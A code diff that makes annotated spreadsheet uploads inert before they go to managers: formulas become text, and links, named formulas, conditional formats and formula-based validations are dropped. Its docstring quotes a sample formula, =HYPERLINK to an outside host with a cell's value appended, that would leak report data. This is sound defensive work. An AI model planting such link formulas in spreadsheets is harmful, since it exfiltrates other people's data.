@@ -18,8 +18,9 @@ from collections.abc import Callable
 from dataclasses import dataclass
 from datetime import datetime
 from pathlib import Path
-from typing import Any, ParamSpec, TypeVar
+from typing import TYPE_CHECKING, Any, ParamSpec, TypeVar
 
+from openpyxl.formatting.formatting import ConditionalFormattingList
 from sqlalchemy.exc import IntegrityError
 from sqlmodel import Session, col, select
 
@@ -36,6 +37,11 @@ from app.progress.models import IndicatorValue, Submission
 from app.progress.services import VALUE_FIELDS, ValueInput, record_indicator_values
 from app.timeutil import utcnow
 from app.validation import NotFound
+
+if TYPE_CHECKING:
+    from openpyxl.cell.cell import Cell
+    from openpyxl.workbook import Workbook
+    from openpyxl.worksheet.datavalidation import DataValidation
 
 # The inbox scan acts for the system, with a manager's reach; its changes carry no user id.
 SYSTEM_VIEWER = Viewer(None, frozenset({"rso_manager"}), None, "imports inbox")
@@ -482,13 +488,14 @@ def history(session: Session, viewer: Viewer, *, limit: int = 200) -> list[tuple
 
 
 def annotated_copy(storage_dir: str | Path, upload: Upload) -> bytes:
-    """The workbook as sent, with each problem cell highlighted and commented."""
+    """The workbook as sent, with each problem cell highlighted and commented, made inert."""
     from openpyxl import load_workbook
     from openpyxl.comments import Comment
     from openpyxl.styles import PatternFill
 
     data = archive_path(storage_dir, upload.file_sha256).read_bytes()
-    workbook = load_workbook(io.BytesIO(data))
+    # keep_links=False: links to other workbooks are dropped, never refreshed on opening
+    workbook = load_workbook(io.BytesIO(data), keep_links=False)
     fill = PatternFill("solid", fgColor="F4B6B6")
     notes = workbook.create_sheet("Problems", 0)
     notes.append(["Sheet", "Cell", "Problem"])
@@ -500,9 +507,48 @@ def annotated_copy(storage_dir: str | Path, upload: Upload) -> bytes:
             target = workbook[sheet][cell]
             target.fill = fill
             target.comment = Comment(problem["message"], "RSO Work Plan Tracker")
+    _make_inert(workbook)
     buffer = io.BytesIO()
     workbook.save(buffer)
     return buffer.getvalue()
+
+
+def _make_inert(workbook: Workbook) -> None:
+    """Nothing the sender wrote may run in the reader's spreadsheet program.
+
+    The copy goes to managers as well as the sender, so a formula such as
+    =HYPERLINK("http://elsewhere/?"&F4, "Click to fix") would hand the report's data to
+    whoever wrote it. Every formula cell becomes the text that was typed (shown as text, like
+    a cell typed with a leading apostrophe); links, named formulas and the formulas of
+    conditional formats and data validations (other than a plain list) are dropped.
+    """
+    workbook.defined_names.clear()
+    for sheet in workbook.worksheets:
+        sheet.defined_names.clear()
+        sheet.conditional_formatting = ConditionalFormattingList()
+        validations = sheet.data_validations.dataValidation
+        validations[:] = [v for v in validations if _is_plain_list(v)]
+        for row in sheet.iter_rows():
+            for cell in row:
+                cell.hyperlink = None
+                if cell.data_type == "f":
+                    _formula_as_text(cell)
+
+
+def _formula_as_text(cell: Cell) -> None:
+    typed = cell.value if isinstance(cell.value, str) else getattr(cell.value, "text", None)
+    cell.value = typed or ""
+    cell.data_type = "s"  # set after the value: openpyxl reads any "=..." string as a formula
+    cell.quotePrefix = True
+
+
+def _is_plain_list(validation: DataValidation) -> bool:
+    """A dropdown of fixed choices ('"yes,no"'), as the template makes: no formula to run."""
+    return (
+        validation.type == "list"
+        and (validation.formula1 or "").startswith('"')
+        and validation.formula2 is None
+    )
 
 
 def can_annotate(upload: Upload) -> bool:
